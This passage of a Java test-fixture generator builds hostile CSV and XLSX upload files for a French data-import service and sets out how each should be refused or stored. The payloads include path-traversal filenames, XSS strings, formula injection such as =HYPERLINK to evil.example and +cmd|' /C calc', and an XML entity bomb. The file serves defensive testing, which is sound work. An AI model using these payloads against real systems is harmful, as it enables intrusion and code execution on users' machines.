                    XSSFSheet s = wb.createSheet("Mars");
                    cells(s, 0, header);
                    cells(s, 1, row("F1", 1, "Carottes", "10", "25,00").split(";"));
                    cells(s, 2, row("F1", 2, "Navets", "10", "25,00").split(";"));
                    XSSFSheet t = wb.createSheet("Avril");
                    cells(t, 0, header);
                    for (int i = 1; i <= 3; i++) {
                        cells(t, i, row("F9", i, "Poireaux", "10", "25,00").split(";"));
                    }
                })));
        l.add(sales("xlsx-sans-feuille.xlsx", "un classeur sans aucune feuille", Expected.refused("EMPTY_FILE"),
                out -> {
                    Map<String, String> parts = parts("");
                    parts.remove(SHEET);
                    parts.put("xl/workbook.xml", "<workbook xmlns=\"" + MAIN + "\" xmlns:r=\"" + REL + "\"><sheets/></workbook>");
                    parts.put("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"" + PKG_REL + "\"/>");
                    zip(out, parts);
                }));
        // rows 1, 2 and 1 048 576 (the last row of a sheet), and a dimension claiming every cell
        l.add(sales("xlsx-dimension-enorme.xlsx", "une dimension A1:XFD1048576 et une ligne 1 048 576",
                Expected.loaded(2).stored(SOURCE_LINES, "2|1048576"), out -> zip(out, parts(
                        "<worksheet xmlns=\"" + MAIN + "\"><dimension ref=\"A1:XFD1048576\"/><sheetData>"
                                + inlineRow(1, header) + inlineRow(2, ok("F1", 1).split(";"))
                                + inlineRow(1_048_576, ok("F1", 2).split(";")) + "</sheetData></worksheet>"))));
        l.add(sales("xlsx-sans-sharedstrings.xlsx", "des cellules de texte partagé sans la table sharedStrings",
                Expected.refused("UNREADABLE"), out -> {
                    StringBuilder rows = new StringBuilder();
                    for (int r = 1; r <= 2; r++) {
                        rows.append("<row r=\"").append(r).append("\">");
                        for (int c = 0; c < header.length; c++) {
                            rows.append("<c r=\"").append(column(c)).append(r).append("\" t=\"s\"><v>")
                                    .append(r * 100 + c).append("</v></c>");
                        }
                        rows.append("</row>");
                    }
                    zip(out, parts("<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + rows + "</sheetData></worksheet>"));
                }));
        // random letters: a cell of one repeated letter compresses 1 000 to 1 and is refused
        // as a possible zip bomb (POI's inflate ratio limit), which is right too
        l.add(sales("xlsx-cellule-1-mo.xlsx", "une cellule de 1 000 000 de lettres au hasard",
                Expected.loaded(1).rejected(1, "TEXT_TOO_LONG"), handWritten("",
                        inlineRow(1, header) + inlineRow(2, row("F1", 1, letters(1_000_000), "1", "5,00").split(";"))
                                + inlineRow(3, ok("F1", 2).split(";")))));
        // NaN and 1E+309 (infinite) are no numbers; 1E+300 is too large; -0 is a zero amount
        l.add(sales("xlsx-nombres.xlsx", "cellules numériques NaN, 1E+309, 1E+300 et -0",
                Expected.loaded(2).rejected(3, "NUMBER_FORMAT", "NUMBER_TOO_LARGE").stored(MONTANTS, "0.00|25.00"),
                handWritten("", inlineRow(1, header)
                        + numericAmountRow(2, "F1", 1, "NaN") + numericAmountRow(3, "F1", 2, "1E+309")
                        + numericAmountRow(4, "F1", 3, "1E+300") + numericAmountRow(5, "F1", 4, "-0")
                        + numericAmountRow(6, "F1", 5, "25"))));
        l.add(sales("xlsx-10000-colonnes.xlsx", "un en-tête de 10 000 colonnes", Expected.refused("TOO_MANY_COLUMNS"),
                workbook(wb -> {
                    XSSFSheet s = wb.createSheet("Ventes");
                    String[] wide = Arrays.copyOf(header, 10_000);
                    for (int i = header.length; i < wide.length; i++) {
                        wide[i] = "c" + (i + 1);
                    }
                    cells(s, 0, wide);
                    cells(s, 1, ok("F1", 1).split(";"));
                })));
        l.add(sales("xlsx-formules.xlsx", "un texte =HYPERLINK(…) et une formule dont la valeur calculée est lue",
                Expected.loaded(1).stored("SELECT produit || '¦' || quantite::VARCHAR FROM sale_lines WHERE import_id = ?",
                        "=HYPERLINK(\"http://evil.example\",\"clic\")¦5.000"),
                handWritten("", inlineRow(1, header) + "<row r=\"2\">"
                        + inlineCells(2, "15/03/2024", "F1", "1", "C1", "P1", "=HYPERLINK(\"http://evil.example\",\"clic\")",
                                "FRUITS_ET_LEGUMES")
                        + "<c r=\"H2\"><f>2+3</f><v>5</v></c>"
                        + "<c r=\"I2\" t=\"inlineStr\"><is><t>kg</t></is></c>"
                        + "<c r=\"J2\" t=\"inlineStr\"><is><t>25,00</t></is></c></row>")));
        l.add(sales("xlsx-substitut.xlsx", "un demi-substitut &#xD800; dans le XML d'une feuille",
                Expected.refused("UNREADABLE"), handWritten("", inlineRow(1, header)
                        + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&#xD800;</t></is></c></row>")));
        return l;
    }

    // ---------------------------------------------------------------- upload names

    /**
     * Valid files whose hostile part is the name the browser sends: the server must record a
     * plain name and write nothing anywhere but its temporary copy. From the command line,
     * they are ordinary files.
     */
    static List<Entry> uploadNames() {
        List<Entry> l = new ArrayList<>();
        String[][] names = {
            {"filename=\"../../etc/passwd.csv\"", "passwd.csv"},
            {"filename=\"..\\\\..\\\\..\\\\x.csv\"", "x.csv"},
            {"filename=\"/etc/cron.d/impact.csv\"", "impact.csv"},
            {"filename=\"C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts.csv\"", "hosts.csv"},
            {"filename=\"ventes\u0000.csv.exe\"", "ventes.csv.exe"},
            {"filename*=UTF-8''..%2F..%2F..%2Ftmp%2Fencode.csv", "encode.csv"},
            {"filename=\"....//....//.htaccess\"", "htaccess"},
            {"filename=\"facture\u202Evsc.exe\"", "facturevsc.exe"},
            {"filename=\"<script>alert(1)</script>.csv\"", "script>.csv"},
            {"filename=\"<img src=x onerror=alert(1)>.csv\"", "<img src=x onerror=alert(1)>.csv"},
            {"filename=\"" + "a".repeat(300) + ".csv\"", "a".repeat(196) + ".csv"},
        };
        for (int i = 0; i < names.length; i++) {
            String f = "N" + (i + 1);
            Entry e = new Entry("nom-televerse-" + (i + 1) + ".csv", "sales",
                    "un fichier valide téléversé sous le nom " + names[i][0].substring(names[i][0].indexOf('=') + 1),
                    Expected.loaded(1), text(H + "\n" + ok(f, 1) + "\n"), names[i][0], names[i][1], false);
            // Tomcat refuses to parse a part whose file name holds a NUL: the server says so (400)
            l.add(names[i][0].contains("\u0000") ? e.uploadRefused("BAD_UPLOAD") : e);
        }
        return l;
    }

    // ---------------------------------------------------------------- reference files

    static List<Entry> reference() {
        List<Entry> l = new ArrayList<>();
        // P1, P2, P6 accepted; P3 commune in Arabic digits, P4 NaN and 1e309 coordinates,
        // P5 a SIRET in full-width digits, P7 a name of 1 000 000 characters
        l.add(new Entry("producteurs-hostiles.csv", "producers",
                "producteurs : formule et <script> dans les noms, commune ٦١٢٩٣, coordonnées NaN et 1e309, "
                        + "SIRET pleine largeur, nom de 1 000 000 de caractères",
                Expected.loaded(3).rejected(4, "INVALID_COMMUNE", "INVALID_COORDINATE", "INVALID_SIRET", "TEXT_TOO_LONG")
                        .stored("SELECT string_agg(nom, '|' ORDER BY source_line) FROM producer_versions WHERE import_id = ?",
                                "=HYPERLINK(\"http://evil.example\";\"x\")|<script>alert(1)</script>|Ferme \u202Eevil"),
                text(PRODUCERS + "\n"
                        + "P1;\"=HYPERLINK(\"\"http://evil.example\"\";\"\"x\"\")\";61293;;;;\n"
                        + "P2;<script>alert(1)</script>;61293;;;;\n"
                        + "P3;Ferme ٣;٦١٢٩٣;;;;\n"
                        + "P4;Ferme NaN;61293;;NaN;1e309;\n"
                        + "P5;Ferme large;61293;１２３４５６７８９０１２３４;;;\n"
                        + "P6;Ferme \u202Eevil;61293;;-0;-0;oui\n"
                        + "P7;" + "n".repeat(1_000_000) + ";61293;;;;\n"),
                "filename=\"producteurs-hostiles.csv\"", "producteurs-hostiles.csv", false));
        l.add(new Entry("producteurs-binaire.csv", "producers", "producteurs : octets aléatoires",
                Expected.refused("NOT_A_TABLE"), out -> {
                    byte[] b = new byte[2048];
                    new Random(3).nextBytes(b);
                    b[10] = 0;
                    out.write(b);
                }, "filename=\"producteurs-binaire.csv\"", "producteurs-binaire.csv", false));
        l.add(new Entry("producteurs-en-tete-seul.csv", "producers", "producteurs : l'en-tête seul",
                Expected.refused("EMPTY_FILE"), text(PRODUCERS + "\n"),
                "filename=\"producteurs-en-tete-seul.csv\"", "producteurs-en-tete-seul.csv", false));
        l.add(new Entry("producteurs-tronque.xlsx", "producers", "producteurs : un classeur coupé",
                Expected.refused("UNREADABLE"), out -> {
                    ByteArrayOutputStream whole = new ByteArrayOutputStream();
                    workbook(wb -> {
                        XSSFSheet s = wb.createSheet("Producteurs");
                        cells(s, 0, PRODUCERS.split(";"));
                        for (int i = 1; i <= 200; i++) {
                            cells(s, i, "P" + i, "Ferme " + i, "61293");
                        }
                    }).write(whole);
                    byte[] b = whole.toByteArray();
                    out.write(b, 0, b.length / 3);
                }, "filename=\"producteurs-tronque.xlsx\"", "producteurs-tronque.xlsx", false));
        l.add(new Entry("clients-en-tete-double.csv", "buyers", "clients : type et son alias segment",
                Expected.refused("DUPLICATE_COLUMN"),
                text("client_id;nom;type;segment\nC1;Cantine;RESTAURATION_SCOLAIRE;RESTAURATION_SCOLAIRE\n"),
                "filename=\"clients-en-tete-double.csv\"", "clients-en-tete-double.csv", false));
        l.add(new Entry("clients-10000-colonnes.csv", "buyers", "clients : 10 000 colonnes",
                Expected.refused("TOO_MANY_COLUMNS"), out -> {
                    StringBuilder s = new StringBuilder("client_id;nom;type");
                    for (int i = 4; i <= 10_000; i++) {
                        s.append(";x").append(i);
                    }
                    out.write(s.append("\nC1;Cantine;RESTAURATION_SCOLAIRE\n").toString().getBytes(UTF_8));
                }, "filename=\"clients-10000-colonnes.csv\"", "clients-10000-colonnes.csv", false));
        // C1, C5 (-0 meals is 0), C6 accepted; C2 segment <script>, C3 1e309 meals, C4 NaN meals
        l.add(new Entry("clients-hostiles.csv", "buyers",
                "clients : segment <script>, repas 1e309, NaN et -0, HTML et émoji dans les noms",
                Expected.loaded(3).rejected(3, "UNKNOWN_SEGMENT", "NUMBER_FORMAT").stored(
                        "SELECT string_agg(nom || ':' || coalesce(repas_par_jour::VARCHAR, ''), '|' ORDER BY source_line) "
                                + "FROM buyer_versions WHERE import_id = ?",
                        "<b>Cantine</b>:120|Cantine 5:0|Cantine 🍽️:"),
                text("client_id;nom;type;siret;repas_par_jour\n"
                        + "C1;<b>Cantine</b>;RESTAURATION_SCOLAIRE;;120\n"
                        + "C2;Cantine 2;<script>alert(1)</script>;;\n"
                        + "C3;Cantine 3;RESTAURATION_SCOLAIRE;;1e309\n"
                        + "C4;Cantine 4;RESTAURATION_SCOLAIRE;;NaN\n"
                        + "C5;Cantine 5;RESTAURATION_SCOLAIRE;;-0\n"
                        + "C6;Cantine 🍽️;RESTAURANT;;\n"),
                "filename=\"clients-hostiles.csv\"", "clients-hostiles.csv", false));
        // 61293 accepted; ../../etc and ٦١ are no codes; <script> is no level
        l.add(new Entry("territoire-hostile.csv", "territory", "territoire : code ../../etc, niveau <script>, code ٦١",
                Expected.loaded(1).rejected(3, "INVALID_TERRITORY_CODE", "UNKNOWN_LEVEL").stored(
                        "SELECT string_agg(code || ':' || nom, '|') FROM territory_versions WHERE import_id = ?",
                        "61293:=HYPERLINK(\"http://evil.example\")"),
                text("code;niveau;nom\n../../etc;PARC;x\n61;<script>alert(1)</script>;Orne\n"
                        + "61293;PARC;=HYPERLINK(\"http://evil.example\")\n٦١;PARC;y\n"),
                "filename=\"territoire-hostile.csv\"", "territoire-hostile.csv", false));
        return l;
    }

    // ---------------------------------------------------------------- funding

    static List<Entry> funding() {
        List<Entry> l = new ArrayList<>();
        String grants = "financeur;type;dispositif;montant_attribue;date_decision;debut;fin";
        // FEADER and <script> accepted; NaN, 1e309, ٣٠٠ amounts and 31/02/2024 rejected
        l.add(funding("financements-hostiles.csv", "financements : montants NaN, 1e309, ٣٠٠, date 31/02/2024, formule et <script>",
                Expected.loaded(2).rejected(4, "NUMBER_FORMAT", "DATE_FORMAT").stored(
                        "SELECT string_agg(financeur || '¦' || coalesce(dispositif, ''), '|' ORDER BY source_line) "
                                + "FROM grant_versions WHERE import_id = ?",
                        "FEADER¦=HYPERLINK(\"http://evil.example\")|<script>alert(1)</script>¦"),
                text(grants + "\n"
                        + "FEADER;PUBLIC_UE;=HYPERLINK(\"http://evil.example\");1000,00;;01/01/2024;31/12/2024\n"
                        + "Région;PUBLIC_REGION;;NaN;;01/01/2024;31/12/2024\n"
                        + "État;PUBLIC_ETAT;;1e309;;01/01/2024;31/12/2024\n"
                        + "Département;PUBLIC_DEPARTEMENT;;٣٠٠;;01/01/2024;31/12/2024\n"
                        + "Commune;PUBLIC_COLLECTIVITE;;500;;31/02/2024;31/12/2024\n"
                        + "<script>alert(1)</script>;PRIVE;;100;;01/01/2024;31/12/2024\n")));
        // lines 2 and 3 accepted (1 234,56 with a narrow no-break space); -2+3 and 00/00/0000 rejected
        l.add(funding("depenses-hostiles.csv", "dépenses : formules @SUM et +cmd, montant -2+3, date 00/00/0000",
                Expected.loaded(2).rejected(2, "NUMBER_FORMAT", "DATE_FORMAT").stored(
                        "SELECT string_agg(libelle || '¦' || fournisseur || '¦' || montant_ht::VARCHAR, '|' "
                                + "ORDER BY source_line) FROM expenditure_versions WHERE import_id = ?",
                        "@SUM(1+1)¦+cmd|' /C calc'!A0¦100.00|Étude¦Bureau¦1234.56"),
                text("date;poste;libelle;fournisseur;reference;montant_ht;date_paiement\n"
                        + "15/03/2024;Animation;@SUM(1+1);+cmd|' /C calc'!A0;R1;100,00;20/03/2024\n"
                        + "15/03/2024;Études;Étude;Bureau;R2;1\u202F234,56;20/03/2024\n"
                        + "15/03/2024;Études;Étude;Bureau;R3;-2+3;20/03/2024\n"
                        + "00/00/0000;Études;Étude;Bureau;R4;10,00;20/03/2024\n")));
        l.add(funding("tableau-inconnu.csv", "un fichier dont l'en-tête n'est aucun fichier du plan de financement",
                Expected.refused("UNKNOWN_FUNDING_FILE"), text("a;b;c\n1;2;3\n")));
        l.add(funding("financement-binaire.csv", "octets aléatoires", Expected.refused("NOT_A_TABLE"), out -> {
            byte[] b = new byte[2048];
            new Random(5).nextBytes(b);
            b[1] = 0;
            out.write(b);
        }));
        l.add(funding("versements-en-tete-seul.csv", "versements : l'en-tête seul", Expected.refused("EMPTY_FILE"),
                text("date;financeur;montant;nature\n")));
        l.add(funding("financement-bombe-xml.xlsx", "un classeur de financement dont la feuille contient une bombe XML",
                Expected.refused("UNREADABLE"), handWritten("<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                        + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]>",
                        inlineRow(1, grants.split(";"))
                                + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&lol2;</t></is></c></row>")));
        return l;
    }

    // ---------------------------------------------------------------- ma-cantine purchases

    static List<Entry> achats() {
        List<Entry> l = new ArrayList<>();
        String good = "21010034300016,Carottes,MIL Perche,2024-03-15,25.00,FRUITS_ET_LEGUMES,BIO,FRANCE,oui,oui,PAT,";
        // line 2 accepted (its description is a formula, kept as text); 3: prix 1e309 (too
        // large), 4: NaN, 5: ٣ (Arabic digit), 6: 2024-02-30, 7: famille <script>
        l.add(new Entry("achats-hostiles.csv", "achats",
                "achats ma-cantine : description =HYPERLINK, prix 1e309, NaN, ٣, date 2024-02-30, famille <script>",
                Expected.loaded(1).rejected(5, "DECIMAL_POINT_FORMAT", "ISO_DATE_FORMAT", "UNKNOWN_FAMILY").stored(
                        "SELECT string_agg(description, '|') FROM purchases WHERE import_id = ?",
                        "=HYPERLINK(\"http://evil.example\";\"x\")"),
                text(ACHATS + "\n"
                        + "21010034300016,\"=HYPERLINK(\"\"http://evil.example\"\";\"\"x\"\")\",MIL Perche,2024-03-15,25.00,"
                        + "FRUITS_ET_LEGUMES,BIO,FRANCE,oui,oui,PAT,\n"
                        + good.replace("25.00", "1e309") + "\n"
                        + good.replace("25.00", "NaN") + "\n"
                        + good.replace("25.00", "٣") + "\n"
                        + good.replace("2024-03-15", "2024-02-30") + "\n"
                        + good.replace("FRUITS_ET_LEGUMES", "<script>alert(1)</script>") + "\n"),
                "filename=\"achats-hostiles.csv\"", "achats-hostiles.csv", false));
        l.add(new Entry("achats-binaire.csv", "achats", "achats : octets aléatoires", Expected.refused("NOT_A_TABLE"),
                out -> {
                    byte[] b = new byte[2048];
                    new Random(11).nextBytes(b);
                    b[0] = 0;
                    out.write(b);
                }, "filename=\"achats-binaire.csv\"", "achats-binaire.csv", false));
        l.add(new Entry("achats-en-tete-faux.csv", "achats", "achats : <script> à la place d'une colonne",
                Expected.refused("ACHATS_HEADER").rejected(0, "HEADER_MISMATCH"), text(ACHATS.replace("fournisseur", "<script>alert(1)</script>") + "\n"
                        + good + "\n"),
                "filename=\"achats-en-tete-faux.csv\"", "achats-en-tete-faux.csv", false));
        l.add(new Entry("achats-en-tete-seul.csv", "achats", "achats : l'en-tête seul", Expected.refused("EMPTY_FILE"),
                text(ACHATS + "\n"), "filename=\"achats-en-tete-seul.csv\"", "achats-en-tete-seul.csv", false));
        l.add(new Entry("achats-10000-colonnes.csv", "achats", "achats : 10 000 colonnes",
                Expected.refused("TOO_MANY_COLUMNS"), out -> {
                    StringBuilder s = new StringBuilder(ACHATS);
                    for (int i = 13; i <= 10_000; i++) {
                        s.append(",x").append(i);
                    }
                    out.write(s.append('\n').append(good).append('\n').toString().getBytes(UTF_8));
                }, "filename=\"achats-10000-colonnes.csv\"", "achats-10000-colonnes.csv", false));
        return l;
    }

    // ---------------------------------------------------------------- helpers

    private static Entry sales(String name, String what, Expected expected, Content content) {
        return new Entry(name, "sales", what, expected, content, "filename=\"" + name + "\"", name, false);
    }

    private static Entry funding(String name, String what, Expected expected, Content content) {
        return new Entry(name, "funding", what, expected, content, "filename=\"" + name + "\"", name, false);
    }

    private static Content text(String s) {
        return text(s, UTF_8);
    }

    private static Content text(String s, Charset cs) {
        return out -> out.write(s.getBytes(cs));
    }

    private static Content bytes(byte[]... parts) {
        return out -> {
            for (byte[] p : parts) {
                out.write(p);
            }
        };
    }

    private static Content workbook(Consumer<XSSFWorkbook> build) {
        return out -> {
            try (XSSFWorkbook wb = new XSSFWorkbook()) {
                build.accept(wb);
                wb.write(out);
            }
        };
    }

    private static void cells(XSSFSheet sheet, int index, String... values) {
        XSSFRow row = sheet.createRow(index);
        for (int i = 0; i < values.length; i++) {
            row.createCell(i).setCellValue(values[i]);
        }
    }

    static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    static final String PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships";
    static final String SHEET = "xl/worksheets/sheet1.xml";

    /** The parts of a minimal workbook of one sheet, as other software writes it: no styles, no shared strings. */
    private static Map<String, String> parts(String sheetXml) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                + "</Types>");
        parts.put("_rels/.rels", "<Relationships xmlns=\"" + PKG_REL + "\"><Relationship Id=\"rId1\" Type=\""
                + REL + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
        parts.put("xl/workbook.xml", "<workbook xmlns=\"" + MAIN + "\" xmlns:r=\"" + REL + "\"><sheets>"
                + "<sheet name=\"Feuil1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        parts.put("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"" + PKG_REL + "\"><Relationship Id=\"rId1\" Type=\""
                + REL + "/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>");
        parts.put(SHEET, sheetXml);
        return parts;
    }

    /** A minimal workbook whose one sheet holds these rows, after an optional DOCTYPE. */
    private static Content handWritten(String doctype, String rows) {
        return out -> zip(out, parts("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype + "<worksheet xmlns=\""
                + MAIN + "\"><sheetData>" + rows + "</sheetData></worksheet>"));
    }

    private static void zip(OutputStream out, Map<String, String> parts) throws IOException {
        ZipOutputStream zip = new ZipOutputStream(out);
        for (var p : parts.entrySet()) {
            zip.putNextEntry(new ZipEntry(p.getKey()));
            zip.write(p.getValue().getBytes(UTF_8));
            zip.closeEntry();
        }
        zip.finish();
    }

    private static String column(int c) {
        StringBuilder s = new StringBuilder();
        for (int n = c + 1; n > 0; n = (n - 1) / 26) {
            s.insert(0, (char) ('A' + (n - 1) % 26));
        }
        return s.toString();
    }

    private static String inlineRow(int r, String... values) {
        return "<row r=\"" + r + "\">" + inlineCells(r, values) + "</row>";
    }

    private static String inlineCells(int r, String... values) {
        StringBuilder s = new StringBuilder();
        for (int c = 0; c < values.length; c++) {
            s.append("<c r=\"").append(column(c)).append(r).append("\" t=\"inlineStr\"><is><t xml:space=\"preserve\">")
                    .append(escapeXml(values[c])).append("</t></is></c>");
        }
        return s.toString();
    }

    /** A sales row whose amount (column J) is a numeric cell holding {@code value} as written in the XML. */
    private static String numericAmountRow(int r, String facture, int ligne, String value) {
        return "<row r=\"" + r + "\">" + inlineCells(r, "15/03/2024", facture, String.valueOf(ligne), "C1", "P1",
                "Carottes", "FRUITS_ET_LEGUMES", "10", "kg") + "<c r=\"J" + r + "\"><v>" + value + "</v></c></row>";
    }

    private static String letters(int n) {
        Random r = new Random(1);
        char[] c = new char[n];
        for (int i = 0; i < n; i++) {
            c[i] = (char) ('a' + r.nextInt(26));
        }
        return new String(c);
    }

    private static String escapeXml(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
    }
}
